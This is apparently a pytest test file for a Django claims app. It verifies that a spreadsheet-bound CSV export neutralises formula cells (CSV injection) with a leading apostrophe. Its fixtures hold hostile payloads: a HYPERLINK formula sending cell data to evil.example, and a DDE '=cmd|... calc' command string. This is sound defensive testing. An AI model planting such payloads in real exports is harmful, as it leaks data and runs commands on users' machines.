"""The CSV for spreadsheets: the claims' CSV with every text cell that a
spreadsheet would run as a formula (OWASP "CSV injection") made text by a
leading apostrophe; the CSV for programs keeps every value as it is."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from claims import export as export_module
from claims import workflow
from claims.export import FORMULA_STARTS
from people.models import Person
from tests.claims import test_export_web
from tests.claims.test_export_web import body, publish, run_action
from tests.conftest import add_evidence, make_claim

SPREADSHEET = reverse("claims:claim_export_spreadsheet")
CSV = reverse("claims:claim_export_csv")
# Two published claims, an unreviewed one and a proposed verdict.
mixed = test_export_web.mixed
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Source")'
SEMICOLON_FORMULA = "Filing;=cmd|' /C calc'!A0;"
DELIMITERS = (",", ";", "\t")


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet splitting on any of DELIMITERS would take for
    formulas."""
    return [
        cell
        for delimiter in DELIMITERS
        for row in rows(text, delimiter)
        for cell in row
        if cell.startswith(FORMULA_STARTS)
    ]


def export(fmt: str) -> str:
    out = io.StringIO()
    call_command("export_claims", "--format", fmt, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def formulas(episode, reviewer, editor):
    """A published claim whose text, summary, speaker and rationale start
    like formulas, and a plain one."""
    attacker = Person.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", slug="at")
    claim = make_claim(
        episode, "80 times growth", text=FORMULA, summary="+1 555 0100 call now",
        speaker=attacker,
    )  # fmt: skip
    workflow.claim_start_research(claim=claim, actor=reviewer)
    add_evidence(claim, reviewer)
    # A spreadsheet splitting on ";" (Excel in many locales) would start a
    # cell at "=cmd…" inside the title, in the evidence's JSON cell.
    workflow.evidence_add(
        claim=claim, actor=reviewer, url="https://example.org/filing",
        stance="refutes", title=SEMICOLON_FORMULA,
    )  # fmt: skip
    workflow.claim_set_verdict(
        claim=claim, verdict="false", actor=reviewer, note="-5 % is not 80 times."
    )
    workflow.claim_approve(claim=claim, actor=editor)
    plain = publish(make_claim(episode, "fully built"), reviewer, editor)
    return claim, plain


def test_formula_cells_are_text_in_the_spreadsheet_csv_only(formulas):
    claim, plain = formulas
    spreadsheet = export("spreadsheet-csv")
    # UTF-8's byte-order mark first, by which Excel knows the encoding (the
    # programs' CSV has none).
    assert spreadsheet.startswith("\ufeffid,")
    assert not export("csv").startswith("\ufeff")
    programs, sheets = rows(export("csv")), rows(spreadsheet.removeprefix("\ufeff"))
    header = programs[0]
    assert sheets[0] == header
    assert len(programs) == len(sheets) == 3
    by_name = dict(zip(header, sheets[1], strict=True))
    assert by_name["text"] == "'" + FORMULA
    assert by_name["summary"] == "'+1 555 0100 call now"
    assert by_name["speaker"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_name["rationale"] == "'-5 % is not 80 times."
    # The CSV for programs keeps them as they are.
    assert dict(zip(header, programs[1], strict=True))["text"] == FORMULA
    assert "Filing;'=cmd|' /C calc'!A0;" in by_name["evidence"]
    changed = 0
    for program_row, sheet_row in zip(programs[1:], sheets[1:], strict=True):
        for program_cell, sheet_cell in zip(program_row, sheet_row, strict=True):
            assert sheet_cell == export_module._spreadsheet_text(program_cell)
            changed += sheet_cell != program_cell
    assert changed == 5
    # The plain claim's row is the same in both.
    assert programs[2] == sheets[2]
    # Split on a comma, a semicolon or a tab, the file for spreadsheets has no
    # formula cell; the one for programs has, under ";" and at the start.
    assert formula_cells(export("spreadsheet-csv")) == []
    assert "=cmd|' /C calc'!A0" in formula_cells(export("csv"))


@given(st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=40))
def test_a_spreadsheet_cell_reads_back_as_its_text_or_its_text_made_text(text):
    cell = export_module._spreadsheet_cell(text)
    (read,) = rows(cell + ",x\r\n")
    assert read == [export_module._spreadsheet_text(text), "x"]
    # Only apostrophes are added: taken out again, the text is as it was.
    if "'" not in text:
        assert read[0].replace("'", "") == text


# Texts made of what matters here: formula starts, separators, quotes.
TRICKY = st.text(alphabet="=+-@;,\"\t\r\n a'|", max_size=12)


@given(st.lists(TRICKY, min_size=1, max_size=3))
def test_no_separator_makes_a_formula_cell_of_a_spreadsheet_row(texts):
    line = ",".join(
        [
            "1",
            *(export_module._spreadsheet_cell(text) for text in texts),
            export_module._spreadsheet_json_cell([{"title": t} for t in texts]),
            "x",
        ]
    )
    assert formula_cells(line + "\r\n") == []


def test_the_list_offers_both_and_the_download_keeps_its_filters(client, formulas):
    page = client.get(reverse("claims:claim_list") + "?status=false").content.decode()
    assert (
        f'href="{SPREADSHEET}?status=false" download>CSV for Excel or Sheets<' in page
    )
    assert f'href="{CSV}?status=false" download>CSV for programs<' in page
    response = client.get(SPREADSHEET + "?status=false")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    # Not the name of the programs' CSV, a different file.
    assert 'filename="claims-for-spreadsheets-' in response["Content-Disposition"]
    assert 'filename="claims-2' in client.get(CSV)["Content-Disposition"]
    text = body(response)
    assert text.startswith("\ufeffid,")
    sheet = rows(text)
    assert [int(row[0]) for row in sheet[1:]] == [formulas[0].pk]
    assert sheet[1][1] == "'" + FORMULA


def test_readers_get_published_claims_only_and_bad_filters_a_400(client, mixed):
    ids = [int(row[0]) for row in rows(body(client.get(SPREADSHEET)))[1:]]
    assert ids == sorted(claim.pk for claim in mixed["published"])
    refused = client.get(SPREADSHEET + "?status=unreviewed")
    assert refused.status_code == 400
    assert "Nothing was exported" in refused.content.decode()


def test_the_admin_action_exports_the_selection_for_spreadsheets(
    client, formulas, reviewer
):
    client.force_login(reviewer)
    response = run_action(client, "export_spreadsheet_csv", *formulas)
    sheet = rows(body(response))
    assert [int(row[0]) for row in sheet[1:]] == sorted(c.pk for c in formulas)
    assert sheet[1][1] == "'" + FORMULA
